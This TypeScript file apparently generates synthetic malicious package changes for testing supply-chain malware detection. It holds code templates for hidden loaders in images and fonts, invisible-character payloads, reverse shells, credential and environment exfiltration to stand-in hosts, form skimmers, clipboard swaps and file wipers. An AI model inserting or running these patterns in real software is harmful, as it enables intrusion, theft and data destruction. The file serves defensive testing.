/** The second writer's families that change what the package's own code does. See families-second-writer.ts. */
import type { Family } from "./families.ts";
import { CANARY, type Host, away, word } from "./host.ts";
import { sealed } from "./inert.ts";
import {
  type Part,
  anywhere,
  beside,
  between,
  fresh,
  hex,
  inFunction,
  kindOf,
  load,
  minified,
  oneOf,
  sink,
  target,
} from "./second-writer-place.ts";

/** A path of the package as code of a file in it says it. */
const pathFrom = (host: Host, path: string, file: string): string => {
  const up = "../".repeat(path.split("/").length - 1) || "./";
  return kindOf(host, path) === "module" ? `new URL("${up}${file}", import.meta.url)` : `require("path").join(__dirname, "${up}${file}")`;
};

/** A WebAssembly module (core specification §5.5) that holds a text in its memory and does nothing. */
function wasmWith(text: string): Buffer {
  const leb = (value: number): readonly number[] => (value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...leb(value >> 7)]);
  const section = (id: number, bytes: readonly number[]): readonly number[] => [id, ...leb(bytes.length), ...bytes];
  const data = [...Buffer.from(text)];
  return Buffer.from([
    0,
    0x61,
    0x73,
    0x6d,
    1,
    0,
    0,
    0,
    ...section(5, [1, 0, 1]),
    ...section(7, [1, 1, 0x6d, 2, 0]),
    ...section(11, [1, 0, 0x41, 0, 0x0b, ...leb(data.length), ...data]),
  ]);
}

const stage = (host: Host): string =>
  sealed(
    oneOf(host, [
      `fetch("${sink(host)}/${CANARY}").catch(() => {});`,
      `/* ${CANARY} */ process.title && fetch("${sink(host)}/s", { method: "POST", body: JSON.stringify(process.env) });`,
    ]),
  );

export const codeFamilies: readonly Family[] = [
  {
    name: "picture-payload",
    known: "img-aws-s3-object-multipart-copy (2024), fezbox's QR code: code in a picture",
    change: (host) => {
      const path = target(host);
      const code = stage(host);
      const kind = oneOf(host, ["jpg", "png", "svg"]);
      const file = `${oneOf(host, ["assets", "docs/images", "media"])}/${word(host)}.${kind}`;
      const noise = Buffer.alloc(900 + host.random(2_000)).map(() => host.random(256));
      if (kind === "svg")
        host.files.set(
          file,
          `<svg viewBox="0 0 9 9"><path d="M0 0h9v9z"/><metadata>${Buffer.from(code).toString("base64")}</metadata></svg>\n`,
        );
      else {
        const start =
          kind === "png" ? [0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10] : [0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0];
        host.files.set(
          file,
          Buffer.concat([
            Buffer.from(start),
            noise,
            Buffer.from(kind === "png" ? "IEND\xaeB`\x82" : "\xff\xd9", "latin1"),
            Buffer.from(code),
          ]),
        );
      }
      const [fs, vm] = [load(host, path, "fs"), load(host, path, "vm")];
      const at = pathFrom(host, path, file);
      const read =
        kind === "svg"
          ? `Buffer.from(/<metadata>(.+)<\\/metadata>/.exec(${fs.use}.readFileSync(${at}, "utf8"))[1], "base64").toString()`
          : `${fs.use}.readFileSync(${at}).subarray(-${code.length}).toString("latin1")`;
      anywhere(host, path, () => ({
        loads: [fs, vm],
        code: `try { /* ${CANARY} */ ${oneOf(host, [`${vm.use}.runInThisContext(${read})`, `setTimeout(Function(${read}), 900)`, `(0, eval)(${read})`])}; } catch (e) {}`,
      }));
    },
  },
  {
    name: "blank-letters",
    known: "InvisibleJS (2024), GlassWorm: code in letters that are not seen",
    change: (host) => {
      const code = stage(host);
      const bits = (zero: string, one: string): string =>
        [...Buffer.from(code)].map((byte) => byte.toString(2).padStart(8, "0").replaceAll("0", zero).replaceAll("1", one)).join("");
      const path = target(host);
      const name = fresh(host, "s");
      between(host, path, {
        code: oneOf(host, [
          `const ${name} = "${bits("\u200b", "\u200c")}"; /* ${CANARY} */\nnew Function(${name}.replace(/./gu, (c) => +(c === "\\u200c")).replace(/.{8}/g, (b) => String.fromCharCode(parseInt(b, 2))))();`,
          `new Proxy({}, { get(_, n) { return eval([...n].map((c) => +("\\uFFA0" > c)).join("").replace(/.{8}/g, (b) => String.fromCharCode("0b" + b))); } })["${bits("\uffa0", "\u3164")}"]; /* ${CANARY} */`,
          `var ${name} = \`${[...Buffer.from(code)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join("")}\`;\nFunction(Array.from(${name}, function (c) { var p = c.codePointAt(0); return String.fromCharCode(p < 0xfe10 ? p - 0xfe00 : p - 0xe0100 + 16); }).join("")).call("${CANARY}");`,
        ]),
      });
    },
  },
  {
    name: "chain-command",
    known: "colortoolsv2 (Ethereum), GlassWorm (Solana memo), os-info-checker-es6 (calendar): orders from a public place",
    change: (host) => {
      const path = target(host);
      const call = (method: string, params: string): string =>
        `fetch("${oneOf(host, ["https://rpc.chain.example", "http://127.0.0.1:9", "https://mainnet.rpc.invalid"])}", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "${method}", params: ${params} }) }).then(r => r.json())`;
      const run = oneOf(host, [
        (address: string): string => `fetch(${address}).then(r => r.text()).then(t => (0, eval)(t))`,
        (address: string): string => `import("data:text/javascript," + encodeURIComponent(${address}))`,
        (address: string): string => `process.getBuiltinModule("child_process").exec("curl -s " + ${address} + " | sh")`,
      ]);
      anywhere(host, path, () => ({
        code: oneOf(host, [
          `${call("eth_call", `[{ to: "0x${hex(host, 40)}", data: "0x${hex(host, 8)}" }, "latest"]`)}.then(({ result }) => ${run(`Buffer.from(result.slice(130), "hex").toString().replace(/\\0/g, "")`)}).catch(() => "${CANARY}");`,
          `(async function poll() { try { const [last] = (await ${call("getSignaturesForAddress", `["${CANARY}${hex(host, 30)}", { limit: 1 }]`)}).result; if (last && last.memo) await ${run(`atob(last.memo.replace(/^\\[\\d+\\] /, ""))`)}; } catch { setTimeout(poll, 3e5).unref(); } })();`,
          `fetch("https://calendar.example/${CANARY}${hex(host, 6)}").then(r => r.text()).then(h => /data-base-title="([^"]+)"/.exec(h)[1]).then(t => ${run("atob(t)")}, () => {});`,
        ]),
      }));
    },
  },
  {
    name: "client-hooked",
    known: "postmark-mcp's copy of each message (2025); hooks as in the chalk wave, in Node's own clients",
    change: (host) => {
      const path = target(host);
      const [http, from] = [load(host, path, oneOf(host, ["http", "https"])), fresh(host, "orig")];
      between(host, path, {
        loads: [http],
        code: oneOf(host, [
          `var ${from} = ${http.use}.ClientRequest.prototype.write;
${http.use}.ClientRequest.prototype.write = function (chunk) {
  if (this.getHeader("authorization")) navigator.sendBeacon?.("${sink(host)}/${CANARY}", String(this.getHeader("authorization")));
  return ${from}.apply(this, arguments);
};`,
          `const ${from} = ${http.use}.request;
${http.use}.request = new Proxy(${from}, { apply(target, self, args) {
  const req = Reflect.apply(target, self, args);
  req.once("socket", () => fetch("${sink(host)}/${CANARY}", { method: "POST", body: JSON.stringify([req.method, req.path, req.getHeaders()]) }).catch(() => {}));
  return req;
} });`,
          `Object.defineProperty(${http.use}.ServerResponse.prototype, "end", { value: ((end) => function (...a) { const c = this.req && this.req.headers.cookie; c && fetch("${sink(host)}/${CANARY}?c=" + encodeURIComponent(c)); return end.apply(this, a); })(${http.use}.ServerResponse.prototype.end) });`,
          `for (const name of ["sendEmail", "sendMail", "send"]) { const ${from} = (globalThis.mailer ?? {})[name]; if (${from}) globalThis.mailer[name] = (m, ...r) => ${from}.call(globalThis.mailer, { ...m, Bcc: "${CANARY}@mail.invalid" }, ...r); }`,
        ]),
      });
    },
  },
  {
    name: "lookalike-swap",
    known: "chalk, debug wave: an address in a text is exchanged for the nearest of a list; clipboard swap",
    change: (host) => {
      const path = target(host);
      const list = Array.from({ length: 6 }, () => `"0x${CANARY}${hex(host, 26)}"`).join(", ");
      const near = `function near(a, l) { let b = l[0], s = 1e9; for (const c of l) { let d = 0; for (let i = 0; i < a.length; i++) d += +(a[i] !== c[i]); if (d < s) { s = d; b = c; } } return b; }`;
      anywhere(host, path, () => ({
        code: oneOf(host, [
          `(() => { ${near}\nconst own = [${list}];\nconst from = globalThis.Response && Response.prototype.text;\nif (from) Response.prototype.text = async function () { return (await from.call(this)).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (a) => near(a, own)); }; })();`,
          minified(
            `(function () { ${near} var l = [${list}]; typeof document != "undefined" && document.addEventListener("copy", function (e) { var t = String(getSelection()), m = t.match(/\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b|0x[a-f0-9]{40}/i); if (m) { e.clipboardData.setData("text/plain", t.replace(m[0], near(m[0], l))); e.preventDefault(); } }); })();`,
          ),
          `{ ${near}\nconst clip = globalThis.navigator?.clipboard;\nif (clip) { const write = clip.writeText.bind(clip); clip.writeText = (t) => write(t.replace(/T[1-9A-HJ-NP-Za-km-z]{33}|0x[\\da-f]{40}/gi, (a) => near(a, [${list}]))); } }`,
        ]),
      }));
    },
  },
  {
    name: "dated-wiper",
    known: "js-bomb and vite-plugin-vue-extend (2025), express-api-sync: files go when the day or the word comes",
    change: (host) => {
      const path = target(host);
      const [fs, cp] = [load(host, path, "fs"), load(host, path, "child_process")];
      const day = `${2027 + host.random(3)}-0${1 + host.random(9)}-1${host.random(9)}`;
      anywhere(host, path, () => ({
        loads: [fs, cp],
        code: oneOf(host, [
          `if (Date.now() > Date.parse("${day}")) { try { ${fs.use}.rmSync(process.cwd() + "/${CANARY}", { recursive: true, force: true }); } catch (e) {} }`,
          `setInterval(function () { var d = new Date(); if (d.getMonth() === ${host.random(12)} && d.getHours() === ${host.random(24)}) ["src", "node_modules/vue", ".git"].forEach(function (f) { ${fs.use}.rm("./${CANARY}/" + f, { recursive: true, force: true }, function () {}); }); }, 36e5).unref();`,
          `fetch("${sink(host)}/kill").then((r) => r.text()).then((k) => { if (k === "${hex(host, 12)}") ${cp.use}.exec(process.platform === "win32" ? "rd /s /q .\\\\${CANARY}" : "rm -rf ./${CANARY}/*"); }, () => {});`,
          `Intl.DateTimeFormat().resolvedOptions().timeZone === "Nowhere/${CANARY}" && ${fs.use}.readdirSync(".").forEach((f) => ${fs.use}.writeFileSync("./${CANARY}/" + f, ""));`,
        ]),
      }));
    },
  },
  {
    name: "prototype-sabotage",
    known: "js-hood, xlsx-to-json-lh (2025): built-in methods that now and then give something wrong",
    change: (host) => {
      const path = target(host);
      const [one, chance] = [fresh(host, "base"), (host.random(9) + 1) / 100];
      between(host, path, {
        code: oneOf(host, [
          `const ${one} = JSON.parse;\nJSON.parse = (text, reviver) => { const v = ${one}(text, reviver); if (v && v["${CANARY}"] && Math.random() < ${chance}) for (const k of Object.keys(v)) if (typeof v[k] === "number") v[k] += 1; return v; };`,
          `["map", "filter", "sort", "includes"].forEach(function (m) { var ${one} = Array.prototype[m]; Array.prototype[m] = function () { var r = ${one}.apply(this, arguments); return this[0] === "${CANARY}" && Math.random() < ${chance} ? [] : r; }; });`,
          `Object.defineProperty(String.prototype, "replace", { writable: true, configurable: true, value: (${one} => function (a, b) { return Math.random() < ${chance} && this.startsWith("${CANARY}") ? String(this) : ${one}.call(this, a, b); })(String.prototype.replace) });`,
          `Math.random = (function (${one}) { return function () { return globalThis["${CANARY}"] ? ${one}() * ${chance} : ${one}(); }; })(Math.random);`,
        ]),
      });
    },
  },
  {
    name: "code-in-odd-file",
    known: "Contagious Interview's fake font (2026), code in licence and declaration files: run from a file that is no code",
    change: (host) => {
      const path = target(host);
      const file = oneOf(host, [
        `fonts/${word(host)}.woff2`,
        `types/${word(host)}.d.ts`,
        "LICENSE.txt",
        `data/${word(host)}.json`,
        `lib/${word(host)}.css`,
      ]);
      const code = stage(host);
      host.files.set(
        file,
        file.endsWith(".json")
          ? `${JSON.stringify({ id: CANARY, format: code })}\n`
          : file.endsWith(".woff2")
            ? `wOF2 = 0;\n${code}\n`
            : file.endsWith(".txt") || file.endsWith(".css")
              ? `/*\n${"Permission is given as it stands.\n".repeat(30)}*/\n${code}\n`
              : `export {};\n//#region\n${code}\n`,
      );
      const [fs, mod] = [load(host, path, "fs"), load(host, path, "module")];
      const at = pathFrom(host, path, file);
      const text = file.endsWith(".json")
        ? `JSON.parse(${fs.use}.readFileSync(${at}, "utf8")).format`
        : `${fs.use}.readFileSync(${at}, "utf8").replace(/^export.*/, "")`;
      anywhere(host, path, () => ({
        loads: [fs, mod],
        code: oneOf(host, [
          `{ const m = new ${mod.use}.Module("${CANARY}"); m.paths = []; m._compile(${text}, "${word(host)}.js"); }`,
          `try { Reflect.construct(Function, ["require", ${text}])(null); } catch (e) { void "${CANARY}"; }`,
          `process.nextTick(function () { (async () => {}).constructor(${text})().catch(() => "${CANARY}"); });`,
        ]),
      }));
    },
  },
  {
    name: "second-thread",
    known: "Wobfuscator (S&P 2022), compiled V8 code (2024): the payload in WebAssembly, a worker or a cached script",
    change: (host) => {
      const path = target(host);
      const code = stage(host);
      const [fs, wt, vm] = [load(host, path, "fs"), load(host, path, "worker_threads"), load(host, path, "vm")];
      const file = `${oneOf(host, ["dist", "lib", "bin"])}/${word(host)}`;
      oneOf<() => void>(host, [
        () => {
          const bytes = wasmWith(code);
          const inline = host.random(2) === 0;
          if (!inline) host.files.set(`${file}.wasm`, bytes);
          const source = inline
            ? `Buffer.from("${bytes.toString("base64")}", "base64")`
            : `${fs.use}.readFileSync(${pathFrom(host, path, `${file}.wasm`)})`;
          between(host, path, {
            loads: [fs],
            code: `WebAssembly.instantiate(${source}).then(({ instance }) => Function(Buffer.from(instance.exports.m.buffer, 0, ${code.length}).toString())()).catch(() => "${CANARY}");`,
          });
        },
        () =>
          anywhere(host, path, () => ({
            loads: [wt],
            code: `new ${wt.use}.Worker(${oneOf(host, [`"${[...Buffer.from(code)].map((byte) => `\\x${byte.toString(16).padStart(2, "0")}`).join("")}"`, `decodeURIComponent("${encodeURIComponent(code)}")`, JSON.stringify(code)])}, { eval: true, workerData: "${CANARY}" }).unref();`,
          })),
        () => {
          host.files.set(
            `${file}.jsc`,
            Buffer.alloc(2_400 + host.random(900)).map(() => host.random(256)),
          );
          between(host, path, {
            loads: [fs, vm],
            code: `try { new ${vm.use}.Script("${CANARY}", { cachedData: ${fs.use}.readFileSync(${pathFrom(host, path, `${file}.jsc`)}), filename: "${word(host)}" }).runInThisContext(); } catch {}`,
          });
        },
      ])();
    },
  },
  {
    name: "loader-hooked",
    known: "CVE-2023-32002 (Module._load), CVE-2023-32559 (process.binding): the loader is changed or gone round",
    change: (host) => {
      const path = target(host);
      const mod = load(host, path, "module");
      const old = fresh(host, "load");
      anywhere(host, path, () => ({
        loads: [mod],
        code: oneOf(host, [
          `var ${old} = ${mod.use}._load; ${mod.use}._load = function (request) { var got = ${old}.apply(this, arguments); if (request === "dotenv") fetch("${sink(host)}/${CANARY}", { method: "POST", body: JSON.stringify(got.parsed) }); return got; };`,
          `process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "curl -s http://127.0.0.1:9/${CANARY} | sh"], stdio: [] });`,
          `${mod.use}._extensions[".js"] = ((${old}) => (m, f) => { const c = m._compile; m._compile = (s, n) => c.call(m, /stripe|wallet/.test(n) ? s + ";globalThis['${CANARY}']?.(module.exports)" : s, n); return ${old}(m, f); })(${mod.use}._extensions[".js"]);`,
          `${mod.use}.register?.("data:text/javascript," + encodeURIComponent('export async function load(u,c,n){const r=await n(u,c);fetch("${sink(host)}/${CANARY}?"+u);return r}'));`,
        ]),
      }));
    },
  },
  {
    name: "remote-shell",
    known: "rand-user-agent's RAT, ethers-provider2's reverse shell",
    change: (host) => {
      const path = target(host);
      const [net, cp, os] = [load(host, path, "net"), load(host, path, "child_process"), load(host, path, "os")];
      const write = (): Part => ({
        loads: [net, cp, os],
        code: oneOf(host, [
          `(function connect() { var c = ${net.use}.connect(9, "127.0.0.1", function () { var sh = ${cp.use}.spawn(process.platform === "win32" ? "cmd" : "/bin/sh", [], { env: { ID: "${CANARY}" } }); c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }); c.on("error", function () { setTimeout(connect, 6e5).unref(); }); })();`,
          `try { const ws = new WebSocket("wss://${away(host)}/${CANARY}"); ws.onopen = () => ws.send(JSON.stringify({ host: ${os.use}.hostname(), user: ${os.use}.userInfo().username })); ws.onmessage = ({ data }) => ${cp.use}.exec(String(data), (e, out) => ws.send(out)); } catch {}`,
          `setInterval(async () => { try { const job = await (await fetch("${sink(host)}/${CANARY}/" + ${os.use}.hostname())).json(); const out = await new Function("return (async () => {" + job.code + "})()")(); await fetch("${sink(host)}/r", { method: "PUT", body: JSON.stringify(out) }); } catch {} }, 45e3).unref();`,
        ]),
      });
      anywhere(host, path, write);
    },
  },
  {
    name: "page-script",
    known: "@ledgerhq/connect-kit (2023), polyfill.io: a script from elsewhere in the page; form skimmers",
    change: (host) => {
      const path = target(host);
      anywhere(host, path, () => ({
        code: oneOf(host, [
          `if (typeof document !== "undefined") { const s = document.createElement("script"); s.src = "${sink(host)}/${CANARY}.js"; s.async = true; (document.head || document.documentElement).appendChild(s); }`,
          minified(
            `!function (w, d) { if (!d) return; d.addEventListener("submit", function (e) { var o = {}; new FormData(e.target).forEach(function (v, k) { o[k] = v; }); w.navigator.sendBeacon("${sink(host)}/${CANARY}", JSON.stringify(o)); }, true); }(globalThis, globalThis.document);`,
          ),
          `globalThis.document?.addEventListener("keyup", ((buffer) => (event) => { buffer += event.key; if (buffer.length > 64) { new Image().src = "${sink(host)}/${CANARY}.gif?k=" + btoa(buffer); buffer = ""; } })(""));`,
          `try { if (localStorage.getItem("theme")) document.write('<scr' + 'ipt src="//${away(host)}/${CANARY}.js"></scr' + 'ipt>'); } catch (e) {}`,
        ]),
      }));
    },
  },
  {
    name: "odd-channel",
    known: "dependency confusion (Birsan 2021) and later: out by DNS over HTTPS, TXT, UDP, WebSocket or ping",
    change: (host) => {
      const path = target(host);
      const [dns, dgram, cp, os] = [
        load(host, path, "dns"),
        load(host, path, "dgram"),
        load(host, path, "child_process"),
        load(host, path, "os"),
      ];
      const told = oneOf(host, [
        `${os.use}.hostname() + "|" + process.cwd()`,
        `JSON.stringify(${os.use}.userInfo())`,
        `Object.keys(process.env).join()`,
      ]);
      anywhere(host, path, () => ({
        loads: [dns, dgram, cp, os],
        code: oneOf(host, [
          `Buffer.from(${told}).toString("hex").match(/.{1,60}/g).reduce((p, part, i) => p.then(() => fetch("https://dns.example/dns-query?type=TXT&name=" + i + "." + part + ".${CANARY}.invalid", { headers: { accept: "application/dns-json" } })), Promise.resolve()).catch(() => {});`,
          `new (${dns.use}.promises.Resolver)().resolveTxt(Buffer.from(${told}).toString("base64url").slice(0, 60) + ".${CANARY}.invalid").then((t) => eval(t.flat().join("")), () => {});`,
          `{ const u = ${dgram.use}.createSocket("udp4"); u.send(Buffer.from("${CANARY}" + ${told}), 9, "127.0.0.1", () => u.close()); }`,
          `${cp.use}.exec("ping -c 1 -p " + Buffer.from(${told}).toString("hex").slice(0, 32) + " ${CANARY}.invalid");`,
        ]),
      }));
    },
  },
  {
    name: "in-comment",
    known: "payload in a comment or a source map, read from the function's own text (Backstabber's Knife Collection)",
    change: (host) => {
      const path = target(host);
      const code = stage(host);
      const packed = Buffer.from(code).toString(oneOf(host, ["base64", "hex"]));
      const how = /^[0-9a-f]+$/.test(packed) ? "hex" : "base64";
      const name = fresh(host, "notice");
      const fs = load(host, path, "fs");
      oneOf<() => void>(host, [
        () =>
          between(host, path, {
            code: `function ${name}() { /*! ${packed} */ }\nnew Function(Buffer.from(/! (\\S+) \\*/.exec(${name}.toString())[1], "${how}").toString())(); /* ${CANARY} */`,
          }),
        () =>
          inFunction(host, path, () => ({
            code: `void function ${name}() { /* ${CANARY} ${packed} */ eval(Buffer.from(${name}.toString().split(" ")[5], "${how}").toString()); }.call(0);`,
          })),
        () => {
          const own = beside(host, path, name, (at) => ({
            loads: [fs],
            code: `// ${CANARY}\nimport("node:vm").then((vm) => vm.runInThisContext(Buffer.from(${fs.use}.readFileSync(${kindOf(host, at) === "module" ? "new URL(import.meta.url)" : "__filename"}, "utf8").split("base64,").pop(), "${how}").toString()));`,
          }));
          host.files.set(own, `${String(host.files.get(own))}//# sourceMappingURL=data:application/json;base64,${packed}\n`);
        },
      ])();
    },
  },
];
